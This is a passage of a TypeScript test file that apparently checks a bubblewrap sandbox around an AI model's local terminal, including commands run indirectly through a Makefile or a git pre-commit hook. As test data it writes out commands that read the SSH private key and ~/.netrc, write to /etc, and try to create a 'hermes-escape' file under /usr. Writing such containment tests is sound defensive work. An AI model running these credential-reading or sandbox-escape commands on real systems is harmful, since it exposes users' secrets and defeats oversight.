  it('contains what a Makefile or a git hook runs, not just the command the model typed', async () => {
    writeFileSync(path.join(workspace, 'Makefile'), 'test:\n\t@hostname; cat $(HOME)/.ssh/id_ed25519 2>&1 | head -1; touch /etc/from-make 2>&1 | head -1\n');
    const make = await run('make -s test');
    expect(make.output).toContain('hermes-sandbox');
    expect(make.output).not.toContain('PRIVATE-KEY-MATERIAL');
    expect(make.output).toContain('Read-only file system');

    const hook = await run(
      [
        'git init -q repo && cd repo',
        'printf "#!/bin/sh\\nhostname > ../hook-ran; cat ~/.netrc >> ../hook-ran 2>&1; true\\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
        'git -c user.name=t -c user.email=t@example.com commit -q --allow-empty -m x',
        'cat ../hook-ran',
      ].join(' && '),
    );
    expect(hook.output).toContain('hermes-sandbox');
    expect(hook.output).not.toContain('netrc-secret');
  });

  it('runs unsandboxed only with terminal.local.sandbox: off, and says so', async () => {
    const sandbox = new LocalSandbox({ ...DEFAULT_SANDBOX_SETTINGS, mode: 'off' });
    expect(sandbox.state()).toMatchObject({ active: false, warning: expect.stringContaining('unsandboxed') });
    expect(sandbox.state().unavailableReason).toBeUndefined();
    const environment = new LocalEnvironment({ backend: 'local', cwd: workspace }, { sandbox });
    const { output } = await environment.exec({ command: 'hostname; cat ~/.netrc', timeoutMs: 10_000 });
    expect(output).not.toContain('hermes-sandbox');
    expect(output).toContain('netrc-secret');
    // Background processes still start in their cwd.
    const started = await environment.background.start({ command: 'pwd', cwd: workspace });
    let tail = '';
    await waitFor(async () => {
      const state = await environment.background.poll(started.id);
      tail = state?.outputTail ?? '';
      return state?.info.status === 'exited';
    }, { timeoutMs: 15_000, what: 'the background process to finish' });
    expect(tail).toBe(`${workspace}\n`);
  });

  it('makes the terminal unavailable, with the reason, where no sandbox can start', async () => {
    const sandbox = new LocalSandbox({ ...DEFAULT_SANDBOX_SETTINGS, bwrapPath: path.join(dir, 'no-such-bwrap') });
    const driver = new LocalDriver({ sandbox });
    expect(await driver.unavailableReason()).toMatch(/bubblewrap .* is not installed.*terminal\.local\.sandbox: off/);
    expect(driver.sandboxState().summary).toMatch(/^sandbox: unavailable/);
    const environment = await driver.attach({ backend: 'local', cwd: workspace });
    await expect(environment.exec({ command: 'echo should-not-run', timeoutMs: 10_000 })).rejects.toThrow(/not installed/);
  });

  it('records the workspace when a session starts', async () => {
    const driver = new LocalDriver();
    expect(await driver.start({ backend: 'local', cwd: workspace })).toMatchObject({ details: { workspace } });
  });

  it('keeps the recorded workspace when the next call attaches to the handle `cd` moved, as each activity does', async () => {
    const driver = new LocalDriver();
    const first = await driver.attach(await driver.start({ backend: 'local', cwd: workspace }));
    await first.exec({ command: 'cd /usr', timeoutMs: 10_000 });
    expect(first.handle).toMatchObject({ cwd: '/usr', details: { workspace } });
    const marker = `/usr/hermes-escape-${path.basename(dir)}`;
    try {
      const next = await driver.attach(first.handle);
      const { output } = await next.exec({ command: `touch ${marker} 2>/dev/null && echo written || echo refused`, timeoutMs: 10_000 });
      expect(output).toBe('refused\n');
    } finally {
      rmSync(marker, { force: true });
    }
  });
});
